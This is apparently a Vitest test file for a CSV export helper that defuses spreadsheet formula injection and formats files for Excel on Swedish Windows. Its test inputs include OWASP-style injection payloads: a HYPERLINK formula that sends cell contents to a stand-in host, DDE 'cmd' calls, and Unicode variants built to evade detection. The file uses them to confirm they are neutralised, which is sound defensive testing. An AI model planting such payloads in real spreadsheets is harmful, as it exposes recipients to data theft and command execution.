import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { decimalComma, spreadsheetCsv, spreadsheetText, startsLikeFormula } from "./spreadsheet-csv.js";

describe("spreadsheet formula guard", () => {
  it.each([
    // OWASP's leading characters
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '-1+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t",
    // leading whitespace and invisible characters a spreadsheet skips
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200e@SUM(A1)",
    // full-width and small forms
    '\uff1dHYPERLINK("x")',
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe66 1",
    "\ufe62 1",
    "\ufe63 1",
    "\u22121+1",
  ])("defuses %j", (value) => {
    expect(startsLikeFormula(value)).toBe(true);
    expect(spreadsheetText(value)).toBe(`'${value}`);
  });

  it.each(["Kalmar", "Anna-Karin Ek", "", "   ", "250,00", "-250,00", "+46", "12.5", "a=b", "O'Brien", "Växjö - centrum"])(
    "leaves %j as it is",
    (value) => {
      expect(startsLikeFormula(value)).toBe(false);
      expect(spreadsheetText(value)).toBe(value);
    },
  );

  it("guards every text cell of a CSV and leaves numbers alone", () => {
    const csv = spreadsheetCsv([
      ["Kommun", "Antal"],
      ['=HYPERLINK("http://evil.example")', 5],
      ['-1+HYPERLINK("x")', -3],
    ]);
    const rows = parse(csv, { delimiter: ";", bom: true }) as string[][];
    expect(rows[1]).toEqual([`'=HYPERLINK("http://evil.example")`, "5"]);
    expect(rows[2]).toEqual([`'-1+HYPERLINK("x")`, "-3"]);
  });

  it("is what Excel on Swedish Windows opens: a byte-order mark, semicolons, decimal commas, CRLF, å/ä/ö intact", () => {
    const csv = spreadsheetCsv([
      ["Kommun", "Andel", "Antal"],
      ["Västervik; Öland", 0.85, 12],
      ["Håbo", -1.5, 0],
    ]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.slice(1)).toBe('Kommun;Andel;Antal\r\n"Västervik; Öland";0,85;12\r\nHåbo;-1,5;0\r\n');
    expect(decimalComma(1234.5)).toBe("1234,5");
  });
});
